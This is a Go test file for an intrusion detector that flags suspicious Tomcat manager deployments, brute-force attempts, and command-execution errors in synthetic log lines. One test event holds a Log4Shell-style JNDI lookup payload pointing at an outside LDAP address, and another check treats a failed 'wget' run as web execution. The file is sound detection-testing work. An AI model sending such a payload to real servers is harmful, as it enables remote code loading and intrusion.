package deploys_test

import (
	"testing"

	"telltale/detect"
	"telltale/detect/deploys"
	"telltale/detect/detecttest"
	"telltale/event"
)

func TestDeploys(t *testing.T) {
	const (
		locked  = "02:00:00 auth-failed service.name=tomcat user.name=admin auth.reason=\"account locked\" x20\n"
		refused = "02:00:00 http-request source.ip=203.0.113.6 http.request.method=GET url.original=/manager/html http.response.status_code=401 x20\n"
		upload  = "02:10:00 http-request source.ip=203.0.113.6 http.request.method=POST url.original=/manager/html/upload?x=y http.response.status_code=200\n"
		manager = "02:10:01 deployed service.name=tomcat message=\"HTMLManager: deploy: Deploying web application '/x9'\"\n"
		war     = "02:10:02 deployed service.name=tomcat file.path=/opt/tomcat/webapps/x9.war message=\"Deploying web application archive [/opt/tomcat/webapps/x9.war]\"\n"
		gone    = "02:20:00 deployed service.name=tomcat message=\"Undeploying context [/x9]\"\n"
		start   = "02:10:30 service-started service.name=tomcat message=\"Server startup in [2] ms\"\n"
	)
	for _, tc := range []struct {
		name, events string
		level        detect.Level
		count        int
	}{
		{"tried, deployed, removed", locked + manager + war + gone, detect.High, 1},
		{"tried and deployed from one address", refused + upload + manager + war, detect.High, 1},
		{"tried, and somebody deployed", locked + war, detect.Medium, 1},
		{"a developer deploys", manager + war, detect.Info, 0},
		{"a developer deploys and takes it back", manager + war + gone, detect.Info, 0},
		{"others were refused", refused + "02:10:00 http-request source.ip=198.51.100.2 http.request.method=PUT url.original=/manager/text/deploy?path=/x http.response.status_code=200\n", detect.Info, 0},
		{"the server starts", locked + war + start, detect.Info, 0},
		{"the manager is tried", locked + refused, detect.Info, 0},
		{"an exception of an attack", "02:00:00 http-error service.name=tomcat message=\"Invalid character found in the request target [/?x=${jndi:ldap://198.51.100.7/a}]\"", detect.Low, 1},
		{"an application's own fault", "02:00:00 http-error service.name=tomcat message=\"org.apache.jasper.JasperException: Unable to compile class for JSP\"", detect.Info, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := detecttest.Run(t, deploys.New(), detecttest.Scene(), tc.events)
			if len(got) != tc.count || tc.count > 0 && got[0].Level != tc.level {
				t.Errorf("%+v", got)
			}
		})
	}
}

func TestAProgramThatIsNotThere(t *testing.T) {
	for program, want := range map[string]int{"wget": 1, "convert": 0} {
		e := detecttest.Events(t, "02:00:00 http-error service.name=tomcat")[0]
		e.AddText(event.Message, `java.io.IOException: Cannot run program "`+program+`": error=2, No such file or directory`)
		f := deploys.New().New(detecttest.Scene())
		f.Observe(&e)
		n := 0
		for r := range f.Findings(t.Context()) {
			if n++; r.What != detect.WebExecution || r.Level != detect.Medium {
				t.Errorf("%+v", r)
			}
		}
		if n != want {
			t.Errorf("%s: %d findings", program, n)
		}
	}
}
